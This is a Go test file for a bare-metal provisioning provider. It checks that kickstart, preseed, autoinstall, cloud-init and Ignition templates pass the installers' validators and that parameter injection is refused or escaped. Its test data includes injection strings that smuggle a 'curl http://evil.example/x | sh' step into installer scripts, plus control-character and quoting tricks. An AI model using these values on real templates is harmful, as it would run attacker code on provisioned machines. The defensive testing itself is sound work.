package boot

import (
	"bytes"
	"encoding/json"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"sort"
	"strings"
	"testing"

	ignition "github.com/coreos/ignition/v2/config"
	"github.com/stretchr/testify/require"
	"gopkg.in/yaml.v3"

	"github.com/openbaremetal/terraform-provider-baremetal/internal/model"
)

// The installers' own parsers judge the stock templates. Missing tools
// skip a test on a developer's machine; under CI they fail it, so a check
// cannot silently stop running.

func needTool(t testing.TB, what, path string) {
	t.Helper()
	if _, err := os.Stat(path); err == nil {
		return
	}
	if p, err := exec.LookPath(path); err == nil && p != "" {
		return
	}
	if os.Getenv("CI") == "true" {
		t.Fatalf("%s (%s) is missing; CI must have it (see .ci/run and ../shared/validators)", what, path)
	}
	t.Skipf("%s (%s) is missing", what, path)
}

// validatorsDir is ../shared/validators of the repository root.
func validatorsDir(t testing.TB) string {
	t.Helper()
	if d := os.Getenv("BAREMETAL_VALIDATORS"); d != "" {
		return d
	}
	abs, err := filepath.Abs(filepath.Join("..", "..", "..", "shared", "validators"))
	require.NoError(t, err)
	return abs
}

func writeTemp(t testing.TB, name, content string) string {
	t.Helper()
	p := filepath.Join(t.TempDir(), name)
	require.NoError(t, os.WriteFile(p, []byte(content), 0o600))
	return p
}

func run(t testing.TB, env []string, name string, args ...string) (string, error) {
	t.Helper()
	cmd := exec.Command(name, args...)
	cmd.Env = append(os.Environ(), env...)
	var out bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &out
	err := cmd.Run()
	return out.String(), err
}

// ksParsed is what testdata/ksdump.py reports of a kickstart.
type ksParsed struct {
	Error    string   `json:"error"`
	Commands []string `json:"commands"`
	Scripts  [][]any  `json:"scripts"`
	Timezone string   `json:"timezone"`
	OnlyUse  []string `json:"onlyuse"`
	RootPW   string   `json:"rootpw"`
	URL      string   `json:"url"`
	Proxy    string   `json:"proxy"`
	SSHKeys  []string `json:"sshkeys"`
	NTP      []string `json:"ntp"`
}

// ksValidate runs ksvalidator (RHEL9) on text.
func ksValidate(t testing.TB, text string) {
	t.Helper()
	dir := filepath.Join(validatorsDir(t), "pykickstart")
	needTool(t, "pykickstart", dir)
	out, err := run(t, []string{"PYTHONPATH=" + dir}, "python3", filepath.Join(dir, "tools", "ksvalidator.py"), "-v", "RHEL9", writeTemp(t, "ks.cfg", text))
	require.NoError(t, err, "ksvalidator refuses the kickstart:\n%s\n%s", out, text)
}

// pykickstartParse parses each text with pykickstart (RHEL9) in one
// interpreter and returns what it parsed, or the parse error, per text.
func pykickstartParse(t testing.TB, texts ...string) []ksParsed {
	t.Helper()
	dir := filepath.Join(validatorsDir(t), "pykickstart")
	needTool(t, "pykickstart", dir)
	args := []string{filepath.Join("testdata", "ksdump.py")}
	tmp := t.TempDir()
	for i, text := range texts {
		f := filepath.Join(tmp, fmt.Sprintf("ks%d.cfg", i))
		require.NoError(t, os.WriteFile(f, []byte(text), 0o600))
		args = append(args, f)
	}
	out, err := run(t, []string{"PYTHONPATH=" + dir}, "python3", args...)
	require.NoError(t, err, out)
	lines := strings.Split(strings.TrimSpace(out), "\n")
	require.Len(t, lines, len(texts), out)
	res := make([]ksParsed, len(texts))
	for i, l := range lines {
		require.NoError(t, json.Unmarshal([]byte(l), &res[i]), l)
	}
	return res
}

// debconfCheck validates a preseed with debconf-set-selections.
func debconfCheck(t testing.TB, text string) {
	t.Helper()
	needTool(t, "debconf", "debconf-set-selections")
	out, err := run(t, nil, "debconf-set-selections", "--checkonly", writeTemp(t, "preseed.cfg", text))
	require.NoError(t, err, "debconf-set-selections refuses the preseed:\n%s\n%s", out, text)
}

// debconfQuestions parses a preseed as debconf-set-selections does (one
// "owner question type value" per line; '#' comments; a trailing
// backslash continues the line) into question -> value.
func debconfQuestions(text string) map[string]string {
	out := map[string]string{}
	var pending string
	for _, line := range strings.Split(text, "\n") {
		if strings.HasSuffix(line, `\`) {
			pending += strings.TrimSuffix(line, `\`)
			continue
		}
		line, pending = pending+line, ""
		line = strings.TrimLeft(line, " \t")
		if line == "" || strings.HasPrefix(line, "#") {
			continue
		}
		f := strings.SplitN(line, " ", 4)
		if len(f) < 3 {
			out["malformed:"+line] = ""
			continue
		}
		v := ""
		if len(f) == 4 {
			v = f[3]
		}
		out[f[1]] = v
	}
	return out
}

// cloudInitSchema validates a cloud-config with cloud-init's own schema.
func cloudInitSchema(t testing.TB, text string) {
	t.Helper()
	needTool(t, "cloud-init", "cloud-init")
	out, err := run(t, nil, "cloud-init", "schema", "--config-file", writeTemp(t, "user-data", text))
	require.NoError(t, err, "cloud-init schema refuses the user-data:\n%s\n%s", out, text)
}

// autoinstallSchema validates each autoinstall section against
// subiquity's JSON schema, in one interpreter.
func autoinstallSchema(t testing.TB, sections ...map[string]any) {
	t.Helper()
	schema := filepath.Join(validatorsDir(t), "autoinstall-schema.json")
	needTool(t, "subiquity's autoinstall schema", schema)
	b, err := json.Marshal(sections)
	require.NoError(t, err)
	out, err := run(t, nil, "python3", "-c",
		"import json,sys,jsonschema\ns=json.load(open(sys.argv[1]))\nfor d in json.load(open(sys.argv[2])): jsonschema.validate(d, s)",
		schema, writeTemp(t, "autoinstall.json", string(b)))
	require.NoError(t, err, "an autoinstall section breaks subiquity's schema:\n%s\n%s", out, b)
}

func ignitionParse(t testing.TB, text string) {
	t.Helper()
	_, rpt, err := ignition.Parse([]byte(text))
	require.NoError(t, err, "Ignition refuses the config: %s\n%s", rpt.String(), text)
	require.False(t, rpt.IsFatal(), rpt.String())
}

func keysOf(m map[string]any) []string {
	out := make([]string, 0, len(m))
	for k := range m {
		out = append(out, k)
	}
	sort.Strings(out)
	return out
}

// stockInput renders every stock template for machine m1 with params.
func stockInput(params map[string]string) renderInput {
	m := provisioningMachine(params)
	tm := map[string]string{}
	for _, n := range StockTemplates() {
		tm[n] = StockPrefix + n
	}
	return renderInput{machine: m, profile: &model.BootProfile{Name: "p1", Kernel: "vmlinuz", Templates: tm}, token: "tok"}
}

// benign is a param value every stock template accepts; the baseline
// renders each param with it.
const benign = "ok.example"

var stockParams = []string{"root_password_hash", "password_hash", "username", "timezone", "disk", "repo_url",
	"mirror", "apt_mirror", "domain", "proxy", "ntp_servers", "ssh_authorized_key", "post_install"}

func baseParams() map[string]string {
	p := map[string]string{}
	for _, k := range stockParams {
		p[k] = benign
	}
	return p
}

// shellWord evaluates one shell word the way sh would and returns it.
func shellWord(t testing.TB, word string) string {
	t.Helper()
	out, err := run(t, nil, "sh", "-c", `eval "set -- $1"; [ $# -eq 1 ] || { echo "$# words"; exit 1; }; printf %s "$1"`, "sh", word)
	require.NoError(t, err, "%s is not one shell word: %s", word, out)
	return out
}

// injCase is one param value rendered into one stock template.
type injCase struct {
	tmpl, param, what, value string
	out                      string // "" when refused
}

// checkAccepted asserts, with the installer's parser, that c.out has the
// baseline's structure and that c.param's value arrives unchanged. ks is
// pykickstart's parse of c.out for kickstarts.
func checkAccepted(t *testing.T, c injCase, base string, ks, ksBase ksParsed) {
	param, value, out := c.param, c.value, c.out
	switch c.tmpl {
	case "kickstart":
		require.Empty(t, ks.Error, "pykickstart refuses the kickstart:\n%s", out)
		require.Equal(t, ksBase.Commands, ks.Commands, "a param added or removed a kickstart command:\n%s", out)
		require.Len(t, ks.Scripts, len(ksBase.Scripts), "a param added a kickstart script:\n%s", out)
		fields := map[string]string{"timezone": ks.Timezone, "root_password_hash": ks.RootPW, "repo_url": ks.URL, "proxy": ks.Proxy}
		if len(ks.OnlyUse) == 1 {
			fields["disk"] = ks.OnlyUse[0]
		}
		if len(ks.SSHKeys) == 1 {
			fields["ssh_authorized_key"] = ks.SSHKeys[0]
		}
		if param == "post_install" {
			for _, sc := range ks.Scripts {
				if w, ok := strings.CutPrefix(sc[1].(string), "sh -c "); ok {
					fields["post_install"] = shellWord(t, strings.TrimSuffix(w, "\n"))
				}
			}
		}
		if v, ok := fields[param]; ok {
			require.Equal(t, value, v, "%s did not arrive unchanged:\n%s", param, out)
		}
	case "preseed":
		want, got := debconfQuestions(base), debconfQuestions(out)
		require.Equal(t, keysOfString(want), keysOfString(got), "a param added or removed a preseed question:\n%s", out)
		q := map[string]string{"domain": "netcfg/get_domain", "mirror": "mirror/http/hostname", "root_password_hash": "passwd/root-password-crypted",
			"timezone": "time/zone", "disk": "partman-auto/disk", "proxy": "mirror/http/proxy"}
		if k, ok := q[param]; ok {
			require.Equal(t, value, got[k], "%s did not arrive unchanged:\n%s", param, out)
		}
	case "ubuntu-autoinstall":
		var want, got map[string]any
		require.NoError(t, yaml.Unmarshal([]byte(base), &want))
		require.NoError(t, yaml.Unmarshal([]byte(out), &got), "not YAML:\n%s", out)
		require.Equal(t, keysOf(want), keysOf(got))
		wa, ga := want["autoinstall"].(map[string]any), got["autoinstall"].(map[string]any)
		require.Equal(t, keysOf(wa), keysOf(ga), "a param added or removed an autoinstall key:\n%s", out)
		id := ga["identity"].(map[string]any)
		fields := map[string]any{"password_hash": id["password"], "username": id["username"], "proxy": ga["proxy"],
			"ssh_authorized_key": ga["ssh"].(map[string]any)["authorized-keys"].([]any)[0],
			"apt_mirror":         ga["apt"].(map[string]any)["primary"].([]any)[0].(map[string]any)["uri"],
			"disk":               ga["storage"].(map[string]any)["layout"].(map[string]any)["match"].(map[string]any)["path"]}
		if v, ok := fields[param]; ok {
			require.Equal(t, value, v, "%s did not arrive unchanged:\n%s", param, out)
		}
		require.Len(t, ga["late-commands"], len(wa["late-commands"].([]any)))
	case "lab-user-data":
		var got map[string]any
		require.NoError(t, yaml.Unmarshal([]byte(out), &got), "not YAML:\n%s", out)
		require.Equal(t, []string{"baremetal", "hostname"}, keysOf(got))
		require.Equal(t, value, got["baremetal"].(map[string]any)["params"].(map[string]any)[param])
	case "ignition":
		ignitionParse(t, out)
		var got map[string]any
		require.NoError(t, json.Unmarshal([]byte(out), &got))
		require.Equal(t, []string{"ignition", "passwd", "storage", "systemd"}, keysOf(got))
		if param == "ssh_authorized_key" {
			u := got["passwd"].(map[string]any)["users"].([]any)[0].(map[string]any)
			require.Equal(t, []any{value}, u["sshAuthorizedKeys"])
		}
	}
}

func keysOfString(m map[string]string) []string {
	out := make([]string, 0, len(m))
	for k := range m {
		out = append(out, k)
	}
	sort.Strings(out)
	return out
}

// TestStockTemplatesPassValidators: the stock templates, every optional
// piece on, are what the installers' own validators accept.
func TestStockTemplatesPassValidators(t *testing.T) {
	s := testRenderServer(t)
	params := map[string]string{"root_password_hash": "$6$salt$hash", "password_hash": "$6$x", "timezone": "Europe/Paris",
		"disk": "/dev/sda", "repo_url": "http://mirror.example/rocky/9/BaseOS/x86_64/os", "mirror": "deb.debian.org",
		"apt_mirror": "http://archive.ubuntu.com/ubuntu", "proxy": "http://proxy.example:3128", "ntp_servers": "0.pool.ntp.org, 1.pool.ntp.org",
		"ssh_authorized_key": "ssh-ed25519 AAAAC3Nza me@example", "post_install": "echo 'done' > /root/marker"}
	in := stockInput(params)
	out := func(name string) string {
		o, _, err := s.renderTemplate(in, name)
		require.NoError(t, err)
		return o
	}
	t.Run("kickstart", func(t *testing.T) {
		text := out("kickstart")
		ksValidate(t, text)
		ks := pykickstartParse(t, text)[0]
		require.Equal(t, []string{"0.pool.ntp.org", "1.pool.ntp.org"}, ks.NTP)
		require.Len(t, ks.Scripts, 2)
	})
	t.Run("preseed", func(t *testing.T) { debconfCheck(t, out("preseed")) })
	t.Run("ubuntu-autoinstall", func(t *testing.T) {
		text := out("ubuntu-autoinstall")
		var doc map[string]any
		require.NoError(t, yaml.Unmarshal([]byte(text), &doc))
		autoinstallSchema(t, doc["autoinstall"].(map[string]any))
		cloudInitSchema(t, text)
	})
	t.Run("lab-user-data", func(t *testing.T) { cloudInitSchema(t, out("lab-user-data")) })
	t.Run("ignition", func(t *testing.T) { ignitionParse(t, out("ignition")) })
}

// injections are the values that broke the stock templates: line breaks
// of every kind a reader honours, controls YAML refuses, and characters
// that split or end kickstart arguments or join preseed lines.
var injections = map[string]string{
	"newline %pre":     "sda\n%pre\ncurl http://evil.example/x | sh\n%end",
	"newline d-i":      "x\nd-i preseed/early_command string curl http://evil.example/x | sh",
	"newline yaml key": "x\"\nearly-commands: [\"curl http://evil.example/x | sh\"]\nx: \"",
	"carriage return":  "x\r%pre",
	"U+2028":           "x\u2028%pre",
	"U+0085 (NEL)":     "x\u0085%pre",
	"DEL":              "x\x7fy",
	"C1 CSI":           "x\u009by",
	"spaces":           "a value --with spaces",
	"quotes":           `a"b'c\d`,
	"hash":             "#comment",
	"trailing slash":   `x\`,
	"json":             `{"ignition":{"version":"3.3.0"}}`,
}

// TestParamInjectionRefusedOrEscaped: each injection through each param of
// each stock template is refused naming the param and the template, or
// arrives as exactly one value with the document's structure unchanged, as
// the real parsers see it (pykickstart, debconf, subiquity's schema, YAML,
// Ignition). The parsers run once per format, on every accepted render.
func TestParamInjectionRefusedOrEscaped(t *testing.T) {
	uses := map[string][]string{
		"kickstart":          {"root_password_hash", "timezone", "disk", "repo_url", "proxy", "ntp_servers", "ssh_authorized_key", "post_install"},
		"preseed":            {"root_password_hash", "timezone", "disk", "mirror", "domain", "proxy", "ntp_servers", "ssh_authorized_key", "post_install"},
		"ubuntu-autoinstall": {"password_hash", "username", "ssh_authorized_key", "apt_mirror", "proxy", "ntp_servers", "disk", "post_install"},
		"lab-user-data":      {"disk", "timezone"},
		"ignition":           {"ssh_authorized_key"},
	}
	s := testRenderServer(t)
	bases := map[string]string{}
	var cases []injCase
	for tmpl, params := range uses {
		base, _, err := s.renderTemplate(stockInput(baseParams()), tmpl)
		require.NoError(t, err)
		bases[tmpl] = base
		for _, param := range params {
			for what, v := range injections {
				p := baseParams()
				p[param] = v
				out, _, err := s.renderTemplate(stockInput(p), tmpl)
				if err != nil {
					require.Contains(t, err.Error(), `param "`+param+`"`, "%s/%s/%s: a refusal names the param", tmpl, param, what)
					require.Contains(t, err.Error(), `template "`+tmpl+`"`, "%s/%s/%s: a refusal names the template", tmpl, param, what)
					require.NotContains(t, err.Error(), "evil", "a refusal repeats the value")
					continue
				}
				cases = append(cases, injCase{tmpl: tmpl, param: param, what: what, value: v, out: out})
			}
		}
	}
	// The real parsers, once per format.
	var ksTexts []string
	var preseeds strings.Builder
	var sections []map[string]any
	for _, c := range cases {
		switch c.tmpl {
		case "kickstart":
			ksTexts = append(ksTexts, c.out)
		case "preseed":
			preseeds.WriteString(c.out)
		case "ubuntu-autoinstall":
			var doc map[string]any
			require.NoError(t, yaml.Unmarshal([]byte(c.out), &doc), c.out)
			if a, ok := doc["autoinstall"].(map[string]any); ok {
				sections = append(sections, a)
			}
		}
	}
	debconfCheck(t, preseeds.String())
	autoinstallSchema(t, sections...)
	parsed := pykickstartParse(t, append([]string{bases["kickstart"]}, ksTexts...)...)
	ksBase, ksAt := parsed[0], 1
	require.Empty(t, ksBase.Error)
	for _, c := range cases {
		var ks ksParsed
		if c.tmpl == "kickstart" {
			ks, ksAt = parsed[ksAt], ksAt+1
		}
		t.Run(c.tmpl+"/"+c.param+"/"+c.what, func(t *testing.T) { checkAccepted(t, c, bases[c.tmpl], ks, ksBase) })
	}
}

// TestLineBreakNeverRendered: where a stock template needs one line, a
// line break is refused, never escaped into something the installer might
// still split.
func TestLineBreakNeverRendered(t *testing.T) {
	s := testRenderServer(t)
	for _, tc := range []struct{ tmpl, param string }{
		{"kickstart", "disk"}, {"kickstart", "timezone"}, {"kickstart", "root_password_hash"}, {"kickstart", "repo_url"},
		{"preseed", "mirror"}, {"preseed", "domain"}, {"preseed", "root_password_hash"}, {"preseed", "disk"}, {"preseed", "timezone"},
	} {
		params := baseParams()
		params[tc.param] = injections["newline %pre"]
		_, _, err := s.renderTemplate(stockInput(params), tc.tmpl)
		require.Error(t, err, "%s/%s", tc.tmpl, tc.param)
		require.Contains(t, err.Error(), `param "`+tc.param+`" contains a line break`)
	}
}
